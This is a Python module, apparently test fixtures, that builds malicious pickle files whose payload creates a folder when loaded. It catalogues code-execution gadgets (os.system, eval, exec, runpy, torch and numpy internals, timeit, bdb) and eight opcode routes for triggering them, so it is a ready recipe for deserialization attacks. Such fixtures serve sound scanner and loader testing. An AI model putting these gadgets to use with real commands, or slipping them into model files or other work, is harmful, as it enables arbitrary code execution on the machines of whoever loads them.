"""Pickles that would make a folder when they are loaded by a library that calls what they name."""

import pickle
import pickletools
from pathlib import Path

#: Functions and arguments that have an effect; `{}` is the folder.
CALLS = {
    "os.system": ("os", "system", "mkdir {}"),
    "posix.system": ("posix", "system", "mkdir {}"),
    "eval": ("builtins", "eval", "__import__('os').mkdir('{}')"),
    "exec of Python 2": ("__builtin__", "exec", "__import__('os').mkdir('{}')"),
    "getattr on a path": ("pathlib", "Path.mkdir", "{}"),
    "runpy": ("runpy", "_run_code", "__import__('os').mkdir('{}')"),
    "torch's own loader": ("torch", "load", "{}"),
    "a dataset of torch": ("torch.hub", "load", "{}"),
    "a compiler of torch": ("torch.jit.unsupported_tensor_ops", "execWrapper", "__import__('os').mkdir('{}')"),
    "numpy": ("numpy.testing._private.utils", "runstring", "__import__('os').mkdir('{}')"),
    "a module that is imported": ("tests.no_such_module", "anything", "{}"),
    "timeit": ("timeit", "main", "{}"),
    "bdb": ("bdb.Bdb", "run", "__import__('os').mkdir('{}')"),
}


def text(value: str) -> bytes:
    """Return the instruction that pushes a text."""
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def instructions(call: str, way: str, folder: Path) -> bytes:
    """Return the instructions that make a call in one of the ways that pickles know."""
    module, name, argument = CALLS[call]
    pushed = text(argument.format(folder))
    named = f"c{module}\n{name}\n".encode()
    return {
        "REDUCE": named + pushed + b"\x85R",
        "NEWOBJ": named + pushed + b"\x85\x81",
        "NEWOBJ_EX": named + pushed + b"\x85}\x92",
        "INST": b"(" + pushed + f"i{module}\n{name}\n".encode(),
        "OBJ": b"(" + named + pushed + b"o",
        "STACK_GLOBAL": text(module) + text(name) + b"\x93" + pushed + b"\x85R",
        "BUILD": b"ccollections\nOrderedDict\n)R}" + text("__setstate__") + named + b"sb" + pushed + b"b",
        "state of a module": named + b")\x81}" + text("_parameters") + named + pushed + b"\x85Rsb",
    }[way]


WAYS = ["REDUCE", "NEWOBJ", "NEWOBJ_EX", "INST", "OBJ", "STACK_GLOBAL", "BUILD", "state of a module"]


def hostile_pickle(call: str, way: str, folder: Path) -> bytes:
    """Return a pickle of a dictionary whose entry `a` makes a call."""
    content = b"\x80\x04}" + text("a") + instructions(call, way, folder) + b"s."
    assert [opcode.name for opcode, _, _ in pickletools.genops(content)][-1] == "STOP"
    return content


class MakesFolder:
    """Makes a folder when a pickle of it is loaded."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, ...]:
        return Path.mkdir, (self.folder,)


def proof(folder: Path) -> None:
    """Show that a pickle of this kind has an effect where it is loaded."""
    pickle.loads(pickle.dumps(MakesFolder(folder)))  # noqa: S301 - its own effect is what is shown
    assert folder.is_dir()
    folder.rmdir()
